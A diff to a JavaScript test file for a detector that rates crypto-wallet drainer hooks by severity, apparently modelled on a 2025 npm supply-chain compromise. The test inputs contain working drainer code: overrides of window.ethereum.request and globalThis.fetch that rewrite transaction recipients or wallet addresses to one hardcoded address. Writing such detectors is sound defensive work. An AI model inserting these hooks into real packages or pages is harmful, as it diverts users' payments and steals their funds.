@@ -2551,6 +2551,14 @@ describe('crypto-wallet-hook: the chalk and debug drainer of September 2025', ()
     expect(hook('index.js', ['const p = new Proxy(window.ethereum, handler);'])).toBe('medium');
     expect(hook('lib/net.js', ['XMLHttpRequest.prototype.open = function (m, u) { return _open.apply(this, arguments); };', ...ADDRESSES])).toBe('high');
   });
+  it("a wallet hook that sets a transaction's recipient to one address written out is critical", () => {
+    expect(hook('index.js', [";(function(){if(typeof window!=='undefined'&&window.ethereum){const o=window.ethereum.request;window.ethereum.request=async function(a){if(a&&a.method==='eth_sendTransaction'){a.params[0].to='0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'}return o.apply(this,arguments)}}})();"])).toBe('critical');
+    expect(hook('src/inject.ts', ['window.ethereum.request = async (p) => {', "  if (p.method === 'eth_sendTransaction') p.params[0] = { ...p.params[0], to: '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976' };", '  return original(p);', '};'])).toBe('critical');
+    // A recipient written out without a wallet hook is a dApp's own transfer; a hook with an address compared, not set, stays medium.
+    expect(hook('src/donate.ts', ["const tx = { to: '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976', value: amount };", 'await wallet.sendTransaction(tx);'])).toBeUndefined();
+    expect(hook('src/debug/wallet-log.ts', ['window.ethereum.request = logged(window.ethereum.request);', "const isTreasury = (p) => p.params[0].to === '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976';"])).toBe('medium');
+  });
+
   it('a network hook that rewrites text by a wallet address pattern is high even with one address written out', () => {
     const drainer = ["const _f = globalThis.fetch; globalThis.fetch = async (u, o) => { if (o && o.body) o.body = String(o.body).replace(/0x[a-fA-F0-9]{40}/g, '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'); return _f(u, o); };"];
     expect(hook('src/index.js', drainer)).toBe('high');
